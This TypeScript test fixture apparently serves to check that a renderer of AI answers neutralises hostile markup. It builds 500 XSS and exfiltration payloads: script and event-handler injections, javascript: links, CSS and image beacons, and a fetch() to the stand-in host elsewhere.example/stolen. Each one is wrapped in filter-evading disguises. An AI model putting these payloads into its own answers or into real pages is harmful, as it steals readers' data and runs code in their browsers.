/** What a hostile answer may try on a screen that would take it for more than text. Harmful ones leave for here. */
export const elsewhere = 'https://elsewhere.example';

const script = `fetch('${elsewhere}/stolen');window.harmed=1;alert(1)`;

const vectors: readonly string[] = [
  `<script>${script}</script>`,
  `<script src="${elsewhere}/a.js"></script>`,
  `<img src=x onerror="${script}">`,
  `<img src="${elsewhere}/pixel.png?secret">`,
  `<img srcset="${elsewhere}/a.png 1x">`,
  `<picture><source srcset="${elsewhere}/a.png"><img></picture>`,
  `<image href="${elsewhere}/a.png" onload="${script}">`,
  `<svg onload="${script}"></svg>`,
  `<svg><image href="${elsewhere}/a.png" /></svg>`,
  `<svg><use href="${elsewhere}/a.svg#a" /></svg>`,
  `<svg><animate onbegin="${script}" attributeName="x" dur="1s" /></svg>`,
  `<svg><script>${script}</script></svg>`,
  `<math><mtext><img src=x onerror="${script}"></mtext></math>`,
  `<iframe src="${elsewhere}/"></iframe>`,
  `<iframe srcdoc="<script>${script}</script>"></iframe>`,
  `<object data="${elsewhere}/a.swf"></object>`,
  `<embed src="${elsewhere}/a.pdf">`,
  `<video src="${elsewhere}/a.mp4" onerror="${script}" autoplay></video>`,
  `<video poster="${elsewhere}/a.png"></video>`,
  `<audio src="${elsewhere}/a.mp3" autoplay></audio>`,
  `<link rel="stylesheet" href="${elsewhere}/a.css">`,
  `<link rel="prefetch" href="${elsewhere}/secret">`,
  `<link rel="dns-prefetch" href="${elsewhere}">`,
  `<style>@import "${elsewhere}/a.css";</style>`,
  `<style>* { background: url("${elsewhere}/a.png") }</style>`,
  `<style>input[value^="a"] { background: url("${elsewhere}/a") }</style>`,
  `<style>@font-face { font-family: a; src: url("${elsewhere}/a.woff2") } * { font-family: a }</style>`,
  `<div style="background-image: url('${elsewhere}/a.png')">words</div>`,
  `<ul style="list-style-image: url('${elsewhere}/a.png')"><li>words</li></ul>`,
  `<body background="${elsewhere}/a.png" onload="${script}">`,
  `<meta http-equiv="refresh" content="0; url=${elsewhere}/">`,
  `<base href="${elsewhere}/">`,
  `<form action="${elsewhere}/" method="post"><button autofocus onfocus="${script}">Pay</button></form>`,
  `<input autofocus onfocus="${script}">`,
  `<details open ontoggle="${script}"><summary>words</summary></details>`,
  `<marquee onstart="${script}">words</marquee>`,
  `<a href="javascript:${script}">words</a>`,
  `<a href="${elsewhere}/" ping="${elsewhere}/ping">words</a>`,
  `<template><img src=x onerror="${script}"></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${script}>"></noscript>`,
  `<xmp><p title="</xmp><img src=x onerror=${script}>"></xmp>`,
  `<table background="${elsewhere}/a.png"><tr><td>words</td></tr></table>`,
  `![words](${elsewhere}/pixel.png?secret)`,
  `![words][1]\n\n[1]: ${elsewhere}/pixel.png`,
  `[words](${elsewhere}/secret)`,
  `[words](javascript:${script})`,
  `[words](data:text/html,<script>${script}</script>)`,
  `<${elsewhere}/secret>`,
  `${elsewhere}/secret`,
  `\`\`\`html\n<img src="${elsewhere}/a.png">\n\`\`\``,
];

const disguises: readonly ((vector: string) => string)[] = [
  (vector) => vector,
  (vector) => `Words before.\n\n${vector}\n\nWords after.`,
  (vector) => `</div></p></span></main>${vector}`,
  (vector) => `"'>${vector}`,
  (vector) => `--></style></script></textarea></title>${vector}`,
  (vector) => vector.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (vector) => vector.replaceAll(/<(\w+)/g, (tag) => tag.toUpperCase()),
  (vector) => vector.replaceAll(/<(\w)/g, '<\u0000$1'),
  (vector) => `| a | b |\n| - | - |\n| ${vector.replaceAll('\n', ' ')} | words |`,
  (vector) => `<![CDATA[${vector}]]>${vector.replaceAll(' ', '/')}`,
];

/** Five hundred of them: each vector in each disguise. */
export const payloads = disguises.flatMap((disguise) => vectors.map(disguise));

/** Those in no disguise. */
export const plainPayloads = vectors;
